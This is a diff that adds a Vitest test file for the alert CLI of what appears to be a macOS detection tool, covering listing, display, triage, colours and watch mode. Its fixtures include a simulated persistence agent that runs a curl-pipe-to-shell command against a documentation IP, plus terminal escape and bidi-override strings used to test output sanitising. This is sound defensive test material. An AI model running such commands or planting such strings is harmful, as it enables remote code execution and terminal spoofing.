@@ -1,0 +1,483 @@
+import { existsSync, readdirSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { type ControlHandlers, ControlServer } from '../../../src/agent/control.js';
+import { applyTriage, triageOp } from '../../../src/agent/triage.js';
+import { systemClock } from '../../../src/base/clock.js';
+import { silentLogger } from '../../../src/base/log.js';
+import { openStore } from '../../../src/store/index.js';
+import { cli, documents, tempFolder } from '../../helpers/run-cli.js';
+import {
+  detection,
+  event,
+  fileEvent,
+  plistPath,
+  processEvent,
+  rule,
+  sha256,
+  storedAlerts,
+} from './alert-fixture.js';
+
+const medium = {
+  ...rule,
+  id: '70244694-b1d5-459e-b5c7-950851876668',
+  name: 'DirectoryService plug-in created or changed',
+  severity: 'medium' as const,
+  riskScore: 47,
+};
+
+/** Two alerts: a low one of 05:40 and a medium one an hour later. */
+function twoAlerts(): string {
+  const later = event('f2', '2026-11-22T06:40:00.000000Z', {
+    event: { category: ['file'], type: ['change'], action: 'modification' },
+    file: { path: '/Library/DirectoryServices/PlugIns/x.dsplug' },
+  });
+  return storedAlerts([
+    detection(),
+    detection({ id: '77c0'.repeat(8), rule: medium, events: [later], candidates: [] }),
+  ]);
+}
+
+async function listed(dataDir: string, ...filters: string[]): Promise<unknown[]> {
+  const { code, stdout } = await cli(['alerts', 'list', '--json', '--data-dir', dataDir, ...filters]);
+  expect(code).toBe(0);
+  return documents(stdout).map((one) => one['severity']);
+}
+
+describe('alerts list', () => {
+  test('newest first, one row each', async () => {
+    const dataDir = twoAlerts();
+    const { code, stdout } = await cli(['alerts', 'list', '--data-dir', dataDir]);
+    expect(code).toBe(0);
+    const [head, ...rows] = stdout.trimEnd().split('\n');
+    expect(head).toMatch(/^ID +TIME \(UTC\) +SEVERITY +STATUS +RULE +SUBJECT$/);
+    expect(rows).toEqual([
+      expect.stringMatching(/^77c077c077c0 {2}2026-11-22 06:40:00 {2}medium {4}open .*x\.dsplug$/),
+      expect.stringMatching(/^3f9a01aa3f9a {2}2026-11-22 05:40:13 {2}low {7}open .*com\.evil\.plist$/),
+    ]);
+  });
+
+  test('--json gives a versioned document with the ECS document', async () => {
+    const { stdout } = await cli([
+      'alerts',
+      'list',
+      '--json',
+      '--data-dir',
+      twoAlerts(),
+      '--severity',
+      'low',
+    ]);
+    expect(documents(stdout)).toMatchObject([
+      {
+        schema: 'launchwarden.alert/1',
+        id: '3f9a01aa'.repeat(4),
+        revision: 1,
+        status: 'open',
+        severity: 'low',
+        risk_score: 21,
+        rule_id: rule.id,
+        rule_name: rule.name,
+        time: '2026-11-22T05:40:13.290123Z',
+        notes: [],
+        doc: { event: { kind: 'alert' }, file: { path: plistPath } },
+      },
+    ]);
+  });
+
+  test('the filters', async () => {
+    const dataDir = twoAlerts();
+    expect(await listed(dataDir)).toEqual(['medium', 'low']);
+    expect(await listed(dataDir, '--severity', 'low,high')).toEqual(['low']);
+    expect(await listed(dataDir, '--severity', 'low', '--severity', 'medium')).toEqual(['medium', 'low']);
+    expect(await listed(dataDir, '--since', '2026-11-22T06:00:00Z')).toEqual(['medium']);
+    expect(await listed(dataDir, '--until', '2026-11-22T06:00:00Z')).toEqual(['low']);
+    expect(await listed(dataDir, '--rule', rule.id)).toEqual(['low']);
+    expect(await listed(dataDir, '--rule', medium.name.toUpperCase())).toEqual(['medium']);
+    expect(await listed(dataDir, '--status', 'closed')).toEqual([]);
+    expect(await listed(dataDir, '--limit', '1')).toEqual(['medium']);
+    expect(await listed(dataDir, '--since', '1s')).toEqual([]);
+  });
+
+  test('pages through more than one page', async () => {
+    const many = Array.from({ length: 450 }, (_, index) =>
+      detection({
+        id: index.toString(16).padStart(32, '0'),
+        events: [fileEvent()],
+        time: fileEvent().time + index,
+      }),
+    );
+    const dataDir = storedAlerts(many);
+    expect(await listed(dataDir, '--limit', '420')).toHaveLength(420);
+    const { stdout } = await cli(['alerts', 'list', '--json', '--data-dir', dataDir, '--limit', '1000']);
+    const ids = documents(stdout).map((one) => one['id']);
+    expect(ids).toEqual(many.map(({ id }) => id).reverse());
+  });
+
+  test('nothing found is said, and is no failure', async () => {
+    const { code, stdout } = await cli(['alerts', 'list', '--data-dir', twoAlerts(), '--since', '1s']);
+    expect({ code, stdout }).toEqual({ code: 0, stdout: 'No alerts.\n' });
+  });
+
+  test('an unknown rule names the nearest; the whole id of one that is gone does not', async () => {
+    const dataDir = twoAlerts();
+    const { code, stderr } = await cli(['alerts', 'list', '--data-dir', dataDir, '--rule', `${rule.name}s`]);
+    expect(code).toBe(2);
+    expect(stderr).toContain(`Did you mean "${rule.name}"?`);
+    expect(await listed(dataDir, '--rule', '00000000-0000-4000-8000-000000000000')).toEqual([]);
+  });
+
+  test('a data folder that is not there is an error and is not made', async () => {
+    const dataDir = path.join(tempFolder(), 'none');
+    const { code, stderr } = await cli(['alerts', 'list', '--data-dir', dataDir]);
+    expect(code).toBe(2);
+    expect(stderr).toContain(dataDir);
+    expect(existsSync(dataDir)).toBe(false);
+  });
+});
+
+describe('alerts show', () => {
+  test('tells everything at first sight', async () => {
+    const { code, stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', twoAlerts()]);
+    expect(code).toBe(0);
+    const expected = [
+      'LOW (risk 21)  Launch agent written and loaded within a minute',
+      'SIMULATED',
+      '3f9a01aa3f9a01aa3f9a01aa3f9a01aa',
+      'alice (uid 501)',
+      'TA0003 Persistence',
+      'T1543 Create or Modify System Process',
+      'T1543.001 Launch Agent',
+      'file-watch, process-scan',
+      '1  05:40:13.281123Z · file modification · seen by file-watch',
+      '2  between 05:40:13.285000Z and 05:40:13.290123Z · process exec · seen by process-scan',
+      'the process names this path',
+      'com.evil.agent',
+      "/bin/sh -c 'curl -s http://198.51.100.7/x | sh'",
+      'RunAtLoad, WatchPaths',
+      'shell-one-liner',
+      'binary',
+      'file, 512 bytes, mode 0644, inode 12345',
+      'alice (501)',
+      sha256,
+      'launchctl (pid 4242)',
+      '/bin/launchctl',
+      `launchctl load -w ${plistPath}`,
+      '/Users/alice',
+      'zsh (pid 4000)',
+      'An installer that loads its agent at once.',
+      'Something was loaded. Ask alice.',
+      'https://example.org/rule',
+    ];
+    for (const text of expected) expect(stdout).toContain(text);
+    expect(stdout.indexOf('1  05:40')).toBeLessThan(stdout.indexOf('2  between'));
+  });
+
+  test('shows why candidates rank as they do, ten of them, and how many there are', async () => {
+    const files = Array.from({ length: 15 }, (_, index) =>
+      fileEvent(`c${index}`, { path: `/f/${index}.plist` }),
+    );
+    const candidates = files.map((one, index) => ({
+      event: one,
+      named: index === 0,
+      link: index === 0 ? ('label' as const) : ('window' as const),
+    }));
+    const dataDir = storedAlerts([detection({ candidates })]);
+    const { stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
+    expect(stdout).toMatch(/1 {2}\/f\/0\.plist\n.*the process names its label/);
+    expect(stdout).toMatch(/2 {2}\/f\/1\.plist\n.*changed inside the window/);
+    expect(stdout).toContain('… and 5 more');
+    expect(stdout).not.toContain('/f/10.plist\n');
+  });
+
+  test('an unknown id names the nearest, an ambiguous one says so', async () => {
+    const dataDir = storedAlerts([detection(), detection({ id: `3f9b${'0'.repeat(28)}` })]);
+    const unknown = await cli(['alerts', 'show', '3f9c', '--data-dir', dataDir]);
+    expect(unknown.code).toBe(2);
+    expect(unknown.stderr).toMatch(
+      /there is no alert "3f9c" \[alerts\/unknown\]\n {2}Did you mean "3f9[ab]"\?/,
+    );
+    const ambiguous = await cli(['alerts', 'show', '3f9', '--data-dir', dataDir]);
+    expect(ambiguous.code).toBe(2);
+    expect(ambiguous.stderr).toContain('store/ambiguous-id');
+  });
+
+  test('a document of odd types is shown as far as it goes', async () => {
+    const odd = processEvent('p9', {
+      name: ['a'],
+      args: 'not a list',
+      parent: 'nobody',
+      pid: { deep: true },
+      code_signature: 7,
+    } as never);
+    const file = fileEvent('f9', { path: 17, hash: null } as never);
+    const dataDir = storedAlerts([detection({ events: [file, odd, null], candidates: [] })]);
+    const { code, stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
+    expect(code).toBe(0);
+    expect(stdout).toContain('not a list');
+  });
+});
+
+describe('hostile text', () => {
+  const evil =
+    '/Users/a/\u001b]0;owned\u0007\u001b[2J\u202egnp.\u202c\nFAKE  row\r\u0085\u2028x\u{e0041}.plist';
+  const hostile = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029\u{e0000}-\u{e007f}]/u;
+
+  function hostileAlert(): string {
+    const file = fileEvent('f1', { path: evil, owner: evil });
+    const process = processEvent('p1', {
+      name: evil,
+      executable: evil,
+      args: ['launchctl', evil],
+      command_line: evil,
+      working_directory: evil,
+      parent: { name: evil, args: [evil] },
+    });
+    const plist = {
+      ...file.doc.launchwarden,
+      plist: { label: evil, program: evil, triggers: [evil] },
+      findings: [evil],
+    };
+    const planted = { ...file, doc: { ...file.doc, launchwarden: plist } };
+    return storedAlerts([
+      detection({
+        rule: {
+          ...rule,
+          name: evil,
+          note: evil.replace('\n', ''),
+          falsePositives: [evil],
+          references: [evil],
+        },
+        events: [planted, process],
+        candidates: [{ event: planted, named: true, link: 'path' }],
+      }),
+    ]);
+  }
+
+  test.each([
+    ['list'],
+    ['show', '3f9a'],
+    ['list', '--json'],
+    ['show', '3f9a', '--json'],
+    ['note', '3f9a', evil],
+  ])('alerts %s', async (...argv) => {
+    const dataDir = hostileAlert();
+    const { code, stdout } = await cli(['alerts', ...argv, '--data-dir', dataDir]);
+    expect(code).toBe(0);
+    expect(stdout).not.toMatch(hostile);
+    if (argv.includes('--json')) {
+      const [document] = documents(stdout);
+      expect(document).toMatchObject({ doc: { file: { path: evil } } });
+    } else if (argv[0] === 'list') {
+      expect(stdout.trimEnd().split('\n')).toHaveLength(2);
+      expect(stdout).toContain('\\x1b]0;owned\\x07');
+    } else expect(stdout).toContain('\\x1b]0;owned\\x07');
+    if (argv[0] === 'show' && argv.length === 2) expect(stdout).not.toMatch(/^ *FAKE/m);
+  });
+
+  test('a note and its author are shown escaped', async () => {
+    const dataDir = storedAlerts();
+    await cli(['alerts', 'note', '3f9a', evil, '--data-dir', dataDir], { user: '\u001b[1mroot' });
+    const { stdout } = await cli(['alerts', 'show', '3f9a', '--data-dir', dataDir]);
+    expect(stdout).not.toMatch(hostile);
+    expect(stdout).toContain('\\x1b[1mroot');
+  });
+});
+
+describe('colours', () => {
+  const colour = /\u001b\[/;
+  const run = (setting: Parameters<typeof cli>[1]) =>
+    cli(['alerts', 'list', '--data-dir', storedAlerts()], setting).then(({ stdout }) => colour.test(stdout));
+
+  test('only on a terminal, and as NO_COLOR, FORCE_COLOR and TERM say', async () => {
+    expect(await run({})).toBe(false);
+    expect(await run({ columns: 100 })).toBe(true);
+    expect(await run({ columns: 100, env: { NO_COLOR: '1' } })).toBe(false);
+    expect(await run({ columns: 100, env: { NO_COLOR: '' } })).toBe(true);
+    expect(await run({ columns: 100, env: { TERM: 'dumb' } })).toBe(false);
+    expect(await run({ env: { FORCE_COLOR: '1' } })).toBe(true);
+    expect(await run({ columns: 100, env: { FORCE_COLOR: '0' } })).toBe(false);
+  });
+
+  test('--json has none', async () => {
+    const { stdout } = await cli(['alerts', 'list', '--json', '--data-dir', storedAlerts()], {
+      columns: 100,
+    });
+    expect(stdout).not.toMatch(colour);
+  });
+
+  test('a narrow terminal gets rows that fit, elsewhere nothing is cut', async () => {
+    const file = fileEvent('f1', { path: `/Users/alice/${'目'.repeat(60)}/x.plist` });
+    const dataDir = storedAlerts([detection({ events: [file], candidates: [] })]);
+    const narrow = await cli(['alerts', 'list', '--data-dir', dataDir], {
+      columns: 100,
+      env: { NO_COLOR: '1' },
+    });
+    const cells = (line: string) => [...line].reduce((sum, one) => sum + (one === '目' ? 2 : 1), 0);
+    for (const line of narrow.stdout.trimEnd().split('\n')) expect(cells(line)).toBeLessThanOrEqual(100);
+    expect(narrow.stdout).toContain('…');
+    expect((await cli(['alerts', 'list', '--data-dir', dataDir])).stdout).toContain(
+      `${'目'.repeat(60)}/x.plist`,
+    );
+  });
+});
+
+describe('triage', () => {
+  const show = async (dataDir: string) => {
+    const { stdout } = await cli(['alerts', 'show', '3f9a', '--json', '--data-dir', dataDir]);
+    return documents(stdout)[0] as {
+      status: string;
+      notes: { author: string; kind: string; text: string }[];
+    };
+  };
+
+  test('ack, note, close and reopen without a daemon, with author', async () => {
+    const dataDir = twoAlerts();
+    const run = async (...argv: string[]) => {
+      const { code, stderr } = await cli(['alerts', ...argv, '--data-dir', dataDir], {
+        user: 'root',
+        env: { SUDO_USER: 'carol' },
+      });
+      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+    };
+    await run('ack', '3f9a', '--note', 'asked alice');
+    expect((await show(dataDir)).status).toBe('acknowledged');
+    await run('note', '3f9a', 'binary', 'sent');
+    await run('close', '3f9a', '77c0');
+    expect(await listed(dataDir, '--status', 'closed')).toEqual(['medium', 'low']);
+    await run('reopen', '3f9a');
+    const { status, notes } = await show(dataDir);
+    expect(status).toBe('open');
+    expect(notes.map(({ author, kind, text }) => [author, kind, text])).toEqual([
+      ['carol', 'acknowledged', 'asked alice'],
+      ['carol', 'note', 'binary sent'],
+      ['carol', 'closed', ''],
+      ['carol', 'open', ''],
+    ]);
+  });
+
+  test('nothing is changed when one of several ids is unknown', async () => {
+    const dataDir = twoAlerts();
+    const { code } = await cli(['alerts', 'close', '3f9a', 'dead', '--data-dir', dataDir]);
+    expect(code).toBe(2);
+    expect((await show(dataDir)).status).toBe('open');
+  });
+
+  test('an empty or endless note is refused', async () => {
+    const dataDir = twoAlerts();
+    expect((await cli(['alerts', 'note', '3f9a', ' ', '--data-dir', dataDir])).stderr).toContain(
+      'alerts/empty-note',
+    );
+    const long = await cli(['alerts', 'note', '3f9a', 'x'.repeat(16_385), '--data-dir', dataDir]);
+    expect(long.stderr).toContain('alerts/long-note');
+    expect((await show(dataDir)).notes).toEqual([]);
+  });
+
+  test('a running daemon writes for us', async () => {
+    const dataDir = twoAlerts();
+    const store = openStore({ dataDir, clock: systemClock });
+    const asked: unknown[] = [];
+    const handlers: ControlHandlers = {
+      [triageOp]: (args) => {
+        asked.push(args);
+        return applyTriage(store, args);
+      },
+    };
+    const daemon = await ControlServer.listen(dataDir, handlers, silentLogger);
+    try {
+      const { code, stdout } = await cli(['alerts', 'ack', '3f9a', '--json', '--data-dir', dataDir]);
+      expect(code).toBe(0);
+      expect(documents(stdout)).toMatchObject([{ status: 'acknowledged' }]);
+      expect(asked).toEqual([
+        { id: '3f9a01aa'.repeat(4), action: 'acknowledged', author: 'tester', text: '' },
+      ]);
+    } finally {
+      await daemon.close();
+      store.close();
+    }
+  });
+
+  test('a data folder that is held and does not listen is said to be unreachable', async () => {
+    const dataDir = twoAlerts();
+    const store = openStore({ dataDir, clock: systemClock });
+    try {
+      const { code, stderr } = await cli(['alerts', 'ack', '3f9a', '--data-dir', dataDir]);
+      expect(code).toBe(3);
+      expect(stderr).toContain('store/locked');
+    } finally {
+      store.close();
+    }
+    expect((await show(dataDir)).status).toBe('open');
+  });
+
+  test('a damaged request to the daemon is refused', () => {
+    const store = openStore({ dataDir: twoAlerts(), clock: systemClock });
+    try {
+      for (const args of [undefined, null, 7, {}, { id: 'x', action: 'drop', author: '', text: '' }])
+        expect(() => applyTriage(store, args)).toThrow(
+          expect.objectContaining({ code: 'alerts/bad-request' }),
+        );
+      expect(() => applyTriage(store, { id: 'zz', action: 'note', author: 'a', text: 'b' })).toThrow(
+        expect.objectContaining({ code: 'alerts/unknown' }),
+      );
+    } finally {
+      store.close();
+    }
+  });
+});
+
+describe('alerts watch', () => {
+  /** Runs it until `enough` of its output has come, changing the store once it watches. */
+  async function watch(dataDir: string, argv: readonly string[], enough: (output: string) => boolean) {
+    const controller = new AbortController();
+    let output = '';
+    const onOutput = (text: string) => {
+      output += text;
+      if (enough(output)) controller.abort();
+    };
+    return cli(['alerts', 'watch', ...argv, '--data-dir', dataDir], { signal: controller.signal, onOutput });
+  }
+
+  test('prints what there is since a time, then what changes, and ends with 0 when interrupted', async () => {
+    const dataDir = twoAlerts();
+    let changed = false;
+    const { code, stdout } = await watch(dataDir, ['--json', '--since', '2026-01-01'], (output) => {
+      const lines = output.trimEnd().split('\n');
+      if (lines.length === 2 && !changed) {
+        changed = true;
+        const store = openStore({ dataDir, clock: systemClock });
+        applyTriage(store, { id: '77c0'.repeat(8), action: 'closed', author: 'bob', text: '' });
+        store.close();
+      }
+      return lines.length >= 3;
+    });
+    expect(code).toBe(0);
+    expect(documents(stdout).map(({ severity, status }) => [severity, status])).toEqual([
+      ['low', 'open'],
+      ['medium', 'open'],
+      ['medium', 'closed'],
+    ]);
+  });
+
+  test('filters, as lines for people', async () => {
+    const { stdout } = await watch(twoAlerts(), ['--since', '2026-01-01', '--severity', 'medium'], (output) =>
+      output.includes('\n'),
+    );
+    expect(stdout).toMatch(/^2026-11-22 06:40:00 {2}77c077c077c0 {2}medium {4}new .*x\.dsplug\n$/);
+  });
+
+  test('without --since only what comes from now on', async () => {
+    const controller = new AbortController();
+    controller.abort();
+    const { code, stdout } = await cli(['alerts', 'watch', '--data-dir', twoAlerts()], {
+      signal: controller.signal,
+    });
+    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
+  });
+});
+
+test('reading leaves the data folder as it is', async () => {
+  const dataDir = twoAlerts();
+  const before = readdirSync(dataDir).filter((name) => !/-(wal|shm)$/.test(name));
+  await cli(['alerts', 'list', '--data-dir', dataDir]);
+  expect(readdirSync(dataDir).filter((name) => !/-(wal|shm)$/.test(name))).toEqual(before);
+});
